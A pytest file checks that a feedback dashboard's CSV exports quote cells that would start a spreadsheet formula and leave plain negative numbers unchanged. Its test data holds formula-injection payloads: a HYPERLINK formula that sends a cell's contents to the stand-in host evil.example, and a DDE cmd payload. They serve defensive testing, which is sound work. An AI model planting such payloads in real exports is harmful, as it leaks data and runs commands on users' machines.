"""CSV exports are safe to open in a spreadsheet: customer text that would start a formula is
quoted (the OWASP rule), plain negative numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from bot.storage.models import SurveyResponse
from feedback.exports import export_csv
from feedback.metrics import Filters
from feedback.spreadsheet import safe_cell
from tests.support.dashboard_data import SINCE, UNTIL, add_fixed_data

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Click for details")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        ("fine = good", "fine = good"),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_cells_that_start_a_formula_are_quoted_and_numbers_are_not(value, expected):
    assert safe_cell(value) == expected


def test_every_export_quotes_a_customers_formula(session_factory):
    with session_factory.begin() as session:
        add_fixed_data(session)
        survey = session.execute(select(SurveyResponse).order_by(SurveyResponse.id)).scalars().first()
        survey.comment, survey.comment_polarity, survey.handled_by = HYPERLINK, -0.5, "@SUM(1+1)"
    filters = Filters(SINCE, UNTIL)
    with session_factory() as session:
        exports = {kind: export_csv(kind, session, filters) for kind in ("surveys", "conversations", "compensation")}
    surveys = list(csv.DictReader(io.StringIO(exports["surveys"])))
    quoted = next(row for row in surveys if row["comment"].endswith('Click for details")'))
    assert quoted["comment"] == "'" + HYPERLINK and quoted["comment_polarity"] == "-0.5"
    assert quoted["handled_by"] == "'@SUM(1+1)"
    for kind, text in exports.items():
        rows = list(csv.DictReader(io.StringIO(text)))
        assert rows, kind
        for row in rows:
            assert all(not cell.startswith(("=", "@", "\t", "\r")) for cell in row.values()), (kind, row)
    polarities = [row["mean_polarity"] for row in csv.DictReader(io.StringIO(exports["conversations"]))]
    assert any(p.startswith("-") and float(p) < 0 for p in polarities)  # a number, not quoted
